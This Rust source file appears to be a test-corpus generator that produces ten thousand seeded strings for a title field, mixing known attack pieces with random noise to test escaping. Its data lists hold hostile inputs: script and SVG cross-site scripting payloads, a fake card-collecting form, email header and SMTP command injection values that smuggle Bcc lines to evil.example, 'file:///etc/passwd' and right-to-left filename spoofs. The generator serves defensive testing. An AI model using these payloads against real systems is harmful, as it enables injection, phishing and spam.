//! Ten thousand texts somebody might write into a title: known attacks, pieces of them put together, and noise.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};

/// Printed by a failure, so that it can be had again.
const SEED: u64 = 0x6d61_6b65_676f_6f64;

/// Pieces by what they attack; every text begins with one of these, every letter meets all of them.
pub const CLASSES: [(&str, &[&str]); 16] = [
    (
        "tags",
        &[
            "<script>alert(1)</script>",
            "</td></tr></table><h1>",
            "<img src=https://evil.example/x.png onerror=x>",
            "<b",
            "</title><style>*{display:none}</style>",
            "<svg/onload=alert(1)>",
            "<!--",
            "-->",
            "<![CDATA[",
            "<?php",
            "</bdi></p>",
            "<a href=https://evil.example>pay</a>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<iframe srcdoc=x>",
            "<form action=//evil.example><input name=card>",
            "<plaintext>",
            "<noscript>",
            "\u{FF1C}script\u{FF1E}",
        ],
    ),
    (
        "attributes",
        &[
            "\" onmouseover=\"alert(1)",
            "' style='position:fixed",
            "\" href=\"https://evil.example",
            "` x=`",
            "x=\"y",
            "=\"\"",
            "\"><img src=x>",
            "'>",
            "/>",
        ],
    ),
    (
        "entities",
        &[
            "&lt;script&gt;",
            "&#60;b&#62;",
            "&#x3c;",
            "&amp;lt;",
            "&nbsp;",
            "&",
            "&#0;",
            "&#xD;&#xA;",
            "&colon;&sol;&sol;",
            "&bogus;",
            "&#8238;",
        ],
    ),
    (
        "headers",
        &[
            "x\r\nBcc: victim@evil.example",
            "x\nSubject: pay",
            "\r\n\r\n<html>",
            "x\rCc: a@evil.example",
            "\r\n\tfolded",
            "x\r\n X-Spam: no",
            "\u{85}To: x@evil.example",
            "\u{2028}From: x",
            "\nContent-Type: text/html\n\n",
            "--=_makegood_018e3c5a00008000",
            "MIME-Version: 2.0",
            "\u{10D}\u{10A}Bcc: wide",
            "%0d%0aBcc:%20x@evil.example",
            "\\r\\nBcc: x",
        ],
    ),
    (
        "commands",
        &[
            "\r\n.\r\nMAIL FROM:<a@evil.example>",
            "\n.\nRSET\n",
            "\r.\rQUIT\r",
            ".",
            "..",
            "\r\n..\r\n",
            ".\r\n",
            "DATA\r\n",
            "BDAT 10 LAST\r\n",
            "\r\r\n.\r\r\n",
            "STARTTLS",
        ],
    ),
    (
        "control",
        &[
            "nul\0byte",
            "\u{1}\u{2}\u{3}",
            "\u{7}\u{8}\u{7f}",
            "\u{1b}[31mred\u{1b}[0m",
            "\u{80}\u{9f}",
            "\u{0b}\u{0c}",
            "\t\ttab",
            "\u{1a}",
            "\u{FFFE}\u{FFFF}",
            "\u{FFFD}",
        ],
    ),
    (
        "direction",
        &[
            "pay \u{202E}gpj.exe\u{202C}",
            "\u{202A}x",
            "\u{202B}x",
            "\u{202D}x",
            "\u{2066}x",
            "\u{2067}x",
            "\u{2068}x",
            "\u{2069}",
            "\u{2069}\u{2069}\u{202E}x",
            "\u{200E}\u{200F}\u{61C}",
        ],
    ),
    (
        "invisible",
        &[
            "a\u{200B}b\u{200C}c\u{200D}d",
            "\u{FEFF}bom",
            "\u{2060}\u{2061}\u{2062}",
            "\u{AD}soft",
            "\u{E0041}\u{E0042}tags",
            "\u{3164}\u{FFA0}",
            "\u{180E}",
            "\u{34F}",
            "\u{200B}\u{200B}\u{200B}",
            "\u{115F}\u{1160}",
        ],
    ),
    (
        "alike",
        &[
            "раураl.com",
            "ехаmple.com",
            "ﬁle",
            "ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ",
            "evil。example",
            "evil．example",
            "evil｡com",
            "xn--80ak6aa92e.com",
            "①②③",
            "Ａｄｍｉｎ",
            "ｈｔｔｐｓ：／／evil.com",
            "１.１.１.１",
        ],
    ),
    (
        "links",
        &[
            "https://evil.example/pay",
            "http://1.2.3.4/",
            "www.evil.example",
            "WWW.EVIL.COM",
            "evil.com/x?y=z#a",
            "bob@evil.example",
            "mailto:bob@evil.example",
            "javascript:alert(1)",
            "data:text/html,x",
            "tel:+4930123456",
            "//evil.example/x",
            "hxxps://evil.example",
            "https:evil.example",
            "https://evil\u{200B}.example",
            "ftp://evil.example",
            "https://[::1]/",
            "file:///etc/passwd",
            "evil.com.",
            "(evil.com)",
            "https://user:pw@evil.example:443/",
            "a.b.c.d.co.uk",
            "x@[1.2.3.4]",
            "bob@evil",
            "sms:123",
            "xmpp:bob@evil.example",
            "HTTPS://EVIL.EXAMPLE",
            "www.evil",
            "see.it",
            "https://münchen.example/ä",
            "evil.com:8080",
            "evil-.com",
            "_evil.com",
            "evil_.com",
            "e\u{301}vil.com",
            "evil.\u{301}com",
            "evil.рф",
            "\u{5D0}.com",
            "http:/\\evil.com",
            "https:\\\\evil.com",
            "a@b.c@d.com",
            "\"bob\"@evil.com",
            "bob+x@evil.com",
            "b'ob@evil.com",
            "bob.@evil.com",
            "news:x.y",
            "evil.com\u{AD}",
            "https\u{200D}://evil.com",
            "1.com",
            "-a.com",
            "t.me/x",
            "a.b",
            "magnet:?xt=x",
        ],
    ),
    (
        "templates",
        &[
            "{{lead_key}}",
            "{{{job}}}",
            "{{> layout}}",
            "{{#each lines}}",
            "{{/if}}",
            "\\{{x}}",
            "{{t \"ask\"}}",
            "¶",
            "{{!-- x --}}",
            "${x}",
            "<%= x %>",
            "#{x}",
            "[[x]]",
        ],
    ),
    (
        "fluent",
        &[
            "{ $n }",
            "{ -brand }",
            "{ $name }",
            "{ job }",
            "{ \"x\" }",
            "{ $n -> *[other] x }",
            "{ NUMBER($n) }",
            "\n    .attr = x",
            "#  comment",
            "}",
        ],
    ),
    (
        "encoded",
        &[
            "=?utf-8?B?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
            "=?utf-8?q?=0D=0ABcc:_x=40evil.example?=",
            "=?us-ascii?q?x?=",
            "=0D=0A.=0D=0A",
            "=",
            "=3D",
            "=\r\n",
            "?=",
            "=?",
            "+ADw-script+AD4-",
            "\u{1b}$B",
        ],
    ),
    ("long", &["LONG", "LONGCOMBINING", "LONGSPACE", "LONGWIDE", "LONGJOINED", "LONGLINE"]),
    (
        "scripts",
        &[
            "לוגו למאפייה",
            "تصميم شعار 24",
            "हिन्दी में लोगो",
            "логотип для пекарні",
            "パン屋のロゴ",
            "ไทย",
            "שלום\u{202E}x",
            "٣٤٥",
            "ကမ္ဘာ",
            "اَلْعَرَبِيَّةُ",
            "עב\r\nBcc: x",
            "\u{5D0}<b>\u{5D1}",
        ],
    ),
    (
        "pictures",
        &[
            "👨\u{200D}👩\u{200D}👧\u{200D}👦",
            "🏳\u{FE0F}\u{200D}🌈",
            "👍🏽",
            "🇩🇪🇫",
            "e\u{301}\u{327}\u{489}",
            "Z\u{351}\u{36B}\u{343}a\u{321}",
            "\u{FE0F}",
            "\u{20E3}",
            "1\u{FE0F}\u{20E3}",
            "\u{1F3FB}",
        ],
    ),
];

const GLUE: [&str; 12] = ["", " ", "\n", "\r\n", "\r", "\u{200B}", ".", ":", "/", "@", "\"", "a"];

/// `count` texts, the same at every run; the class of each is its place modulo the classes.
pub fn strings(count: usize) -> Vec<String> {
    let mut random = StdRng::seed_from_u64(SEED);
    (0..count).map(|at| string(at, &mut random)).collect()
}

fn string(at: usize, random: &mut StdRng) -> String {
    let (_, own) = CLASSES[at % CLASSES.len()];
    let round = at / CLASSES.len();
    let mut text = expand(own[round % own.len()]);
    // The first round is the pieces alone; later ones are joined with others.
    if round >= own.len() {
        for _ in 0..random.random_range(1..5) {
            let (_, class) = CLASSES.choose(random).expect("a class");
            text.push_str(GLUE.choose(random).expect("glue"));
            match random.random_range(0..6) {
                0 => text.extend((0..random.random_range(1..12)).map(|_| noise(random))),
                1 => text.insert_str(0, class.choose(random).expect("a piece")),
                _ => text.push_str(&expand(class.choose(random).expect("a piece"))),
            }
        }
    }
    text
}

/// A character from where surprises live.
fn noise(random: &mut StdRng) -> char {
    let ranges = [
        0..0x80,
        0..0x250,
        0x300..0x370,
        0x590..0x780,
        0x2000..0x2070,
        0xFE00..0x1_0000,
        0x1_F000..0x1_FA00,
        0..0x11_0000_u32,
    ];
    let range = ranges.choose(random).expect("a range").clone();
    char::from_u32(random.random_range(range)).unwrap_or('\u{FFFD}')
}

fn expand(piece: &str) -> String {
    match piece {
        "LONG" => "Donaudampfschifffahrt".repeat(60),
        "LONGCOMBINING" => format!("a{}", "\u{301}".repeat(1200)),
        "LONGSPACE" => format!("a{}b", " ".repeat(1500)),
        "LONGWIDE" => "𝕏".repeat(700),
        "LONGJOINED" => "👩\u{200D}".repeat(400),
        "LONGLINE" => "word ".repeat(400),
        piece => piece.to_owned(),
    }
}
